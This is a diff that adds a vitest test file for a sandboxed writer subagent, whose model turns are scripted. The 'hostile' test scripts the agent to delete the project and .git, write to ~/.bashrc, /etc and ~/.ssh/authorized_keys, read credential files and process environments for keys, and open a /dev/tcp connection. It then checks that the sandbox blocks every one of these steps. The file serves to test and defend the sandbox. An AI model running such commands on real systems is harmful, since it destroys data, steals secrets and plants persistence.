@@ -1,0 +1,229 @@
+import { execFileSync } from "node:child_process";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { probeSandbox } from "../../src/sandbox/probe-sandbox.ts";
+import { runCli } from "../helpers/run-cli.ts";
+import { RUNTIME_ROWS } from "../helpers/runtime-rows.ts";
+import {
+	finalize,
+	type ScriptedProvider,
+	type ScriptedTurn,
+	startScriptedProvider,
+} from "../helpers/scripted-provider.ts";
+import { createTestHome, listRunDirectories, type TestHome } from "../helpers/test-home.ts";
+
+const { delegate } = (await import("../../dist/index.js" as string)) as typeof import("../../src/index.ts");
+
+const probe = await probeSandbox({ env: process.env });
+let home: TestHome;
+let provider: ScriptedProvider | undefined;
+let server: Server | undefined;
+
+afterEach(async () => {
+	await provider?.close();
+	server?.close();
+	const left = listRunDirectories(home.agentDirectory);
+	home.remove();
+	expect(left).toEqual([]);
+});
+
+const git = (...args: readonly string[]): string =>
+	execFileSync("git", args, {
+		cwd: home.project,
+		encoding: "utf8",
+		env: { ...home.env, GIT_CONFIG_NOSYSTEM: "1" },
+	});
+
+/** Everything in the project with its content, Git's own files too. */
+function picture(): string {
+	const run = (command: string): string =>
+		execFileSync("sh", ["-c", command], { cwd: home.project, encoding: "utf8" });
+	// Git marks an object of a repository as still used when it is looked for, so those have no time here.
+	return [
+		run("find . -path ./.git/objects -prune -o -printf '%y %m %s %T@ %p %l\\n' | sort"),
+		run("find . -type f -print0 | sort -z | xargs -0 sha256sum"),
+	].join("\n");
+}
+
+async function work(
+	runtime: "pi" | "loop",
+	turns: readonly ScriptedTurn[],
+	subagents: object = { writers: ["fixer"] },
+) {
+	home = createTestHome({
+		"src/add.js": "exports.add = (a, b) => a - b;\n",
+		"test.js": 'if (require("./src/add.js").add(1, 2) !== 3) process.exit(1);\n',
+		"dirty.txt": "committed\n",
+		".gitignore": "cache/\n",
+	});
+	git("init", "-q");
+	git("add", "-A");
+	git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "first");
+	home.write("dirty.txt", "not committed\n");
+	home.write("untracked.txt", "not in Git\n");
+	home.write(
+		join(home.agentDirectory, "deputize.json"),
+		JSON.stringify({ subagents: { keepWarm: 0, ...subagents } }),
+	);
+	provider = await startScriptedProvider(turns);
+	const options = RUNTIME_ROWS[runtime].configure(home, provider);
+	const before = picture();
+	const result = await delegate({ agent: "fixer", task: "Make add add" }, options);
+	return { result, before, options };
+}
+
+const lastAnswer = (): string => provider?.requests().at(-1) ?? "";
+
+describe.skipIf(!probe.works).each(["pi", "loop"] as const)("a writer (%s)", (runtime) => {
+	it("changes files in a layer, runs the tests there, and leaves the project byte for byte as it was", async () => {
+		const { result, before } = await work(runtime, [
+			{ calls: [{ name: "bash", args: { command: "node test.js" } }] },
+			{
+				calls: [
+					{ name: "edit", args: { path: "src/add.js", edits: [{ oldText: "a - b", newText: "a + b" }] } },
+					{ name: "write", args: { path: "notes/new.md", content: "# Why\n" } },
+				],
+			},
+			{
+				calls: [
+					{
+						name: "bash",
+						args: { command: "node test.js && cat dirty.txt untracked.txt && mkdir cache && touch cache/x" },
+					},
+				],
+			},
+			finalize("add adds."),
+		]);
+		expect(lastAnswer()).toContain("not committed\\nnot in Git");
+		expect(result.details.error).toBeUndefined();
+		expect(result.details.results[0]?.confinement).toBe("os-sandbox");
+		expect(result.details.changes).toMatchObject({
+			isolation: "layer",
+			state: "pending",
+			files: [
+				{ path: "notes/new.md", status: "added", added: 1, removed: 0 },
+				{ path: "src/add.js", status: "modified", added: 1, removed: 1 },
+			],
+			...{ added: 2, removed: 1, refusedCalls: 0 },
+			ignored: { count: 1, names: ["cache/x"] },
+			commands: [{ command: "node test.js", exitCode: 1 }, { exitCode: 0 }],
+		});
+		const { text } = result.content[0];
+		expect(text).toContain("2 files +2 −1, not applied yet");
+		expect(text).toContain("src/add.js +1 −1");
+		expect(picture()).toBe(before);
+	});
+
+	it("that is hostile changes not a byte outside of the layer, reaches no server and no closed file", async () => {
+		let hits = 0;
+		server = createServer((_request, response) => {
+			hits += 1;
+			response.end("reached");
+		});
+		await new Promise<void>((resolve) => server?.listen(0, "127.0.0.1", resolve));
+		const { port } = server.address() as AddressInfo;
+		const { result, before } = await work(runtime, [
+			{
+				calls: [
+					{
+						name: "bash",
+						args: {
+							command: `rm -rf ./* .git; git init -q; echo x > "$HOME/.bashrc"; echo x > /etc/x; cat "$HOME/.pi/agent/models.json" "$HOME/.pi/agent/auth.json"; env; exec 3<>/dev/tcp/127.0.0.1/${port} && echo "GET /" >&3 && cat <&3; echo e""nd`,
+						},
+					},
+				],
+			},
+			{
+				calls: [
+					{ name: "write", args: { path: "../home/.bashrc", content: "x" } },
+					{ name: "write", args: { path: "~/.ssh/authorized_keys", content: "x" } },
+				],
+			},
+			{
+				calls: [
+					{
+						name: "bash",
+						args: {
+							command:
+								"for p in /proc/[0-9]*; do cat $p/environ; done | tr '\\0' '\\n' | grep -a KEY; ls -A ~/.pi/agent; sleep 300 & echo left",
+						},
+					},
+				],
+			},
+			finalize("Cleaned up."),
+		]);
+		expect(result.details.error).toBeUndefined();
+		const seen = (provider?.requests() ?? []).join("\n");
+		expect(seen).toContain("end");
+		expect(seen).not.toContain("reached");
+		expect(seen).not.toContain("scripted-key-not-secret");
+		expect(hits).toBe(0);
+		expect(existsSync(join(home.home, ".bashrc"))).toBe(false);
+		expect(existsSync(join(home.home, ".ssh"))).toBe(false);
+		expect(existsSync("/etc/x")).toBe(false);
+		expect(picture()).toBe(before);
+		expect(result.details.changes?.files.every(({ status }) => status === "deleted")).toBe(true);
+	});
+
+	it("goes on in its layer, and is applied by the command", async () => {
+		const { result, options } = await work(runtime, [
+			{ calls: [{ name: "write", args: { path: "one.txt", content: "1\n" } }] },
+			finalize("One."),
+			{ calls: [{ name: "bash", args: { command: "cat one.txt && echo 2 > two.txt" } }] },
+			finalize("Two."),
+		]);
+		const sessionId = result.details.sessionId ?? "";
+		const again = await delegate({ agent: "fixer", task: "Go on", sessionId }, options);
+		expect(again.details.error).toBeUndefined();
+		const { id = "", files = [], patch = "", commands } = again.details.changes ?? {};
+		expect(commands?.map(({ exitCode }) => exitCode)).toEqual([0]);
+		expect([id, files.map(({ path }) => path)]).toEqual([result.details.changes?.id, ["one.txt", "two.txt"]]);
+		expect(patch).toContain("+2\n");
+		expect(existsSync(join(home.project, "one.txt"))).toBe(false);
+		const applied = await runCli(["changes", "apply", id], { cwd: home.project, env: home.env });
+		expect(applied).toMatchObject({ code: 0 });
+		expect(readFileSync(join(home.project, "two.txt"), "utf8")).toBe("2\n");
+		expect(readFileSync(join(home.project, "dirty.txt"), "utf8")).toBe("not committed\n");
+	});
+
+	it("is applied at once where the user wants that", async () => {
+		const change = { path: "src/add.js", edits: [{ oldText: "a - b", newText: "a + b" }] };
+		const { result } = await work(runtime, [{ calls: [{ name: "edit", args: change }] }, finalize("Done.")], {
+			writers: ["fixer"],
+			applyChanges: "auto",
+		});
+		expect(result.details.changes).toMatchObject({ state: "applied", files: [{ isApplied: true }] });
+		expect(result.content[0].text).toContain("applied to the project");
+		expect(readFileSync(join(home.project, "src/add.js"), "utf8")).toContain("a + b");
+	});
+
+	it("that claims a change and made none is marked, and leaves no layer", async () => {
+		const { result } = await work(runtime, [finalize("I changed src/add.js.")]);
+		expect(result.content[0].text).toContain("It changed no file, whatever it says above.");
+		expect(result.details.changes).toMatchObject({ state: "none", files: [], commands: [] });
+		expect(result.details.changes?.id).toBeUndefined();
+	});
+
+	it("keeps what it changed until its run failed", async () => {
+		const { result, before } = await work(runtime, [
+			{ calls: [{ name: "write", args: { path: "half.txt", content: "half\n" } }] },
+			{ error: { status: 400, message: "no more" } },
+		]);
+		expect(result.isError).toBe(true);
+		expect(result.details.changes).toMatchObject({ state: "pending", files: [{ path: "half.txt" }] });
+		expect(result.content[0].text).toContain("1 file +1 −0, not applied yet");
+		expect(picture()).toBe(before);
+	});
+
+	it("is off until the user lists it", async () => {
+		const { result } = await work(runtime, [], {});
+		expect(result.details.error?.code).toBe("SUBAGENT_DISABLED");
+		expect(result.details.error?.message).toContain("subagents.writers");
+		expect(provider?.asked()).toBe(0);
+		expect(readFileSync(join(home.project, "dirty.txt"), "utf8")).toBe("not committed\n");
+		writeFileSync(join(home.project, "dirty.txt"), "");
+	});
+});
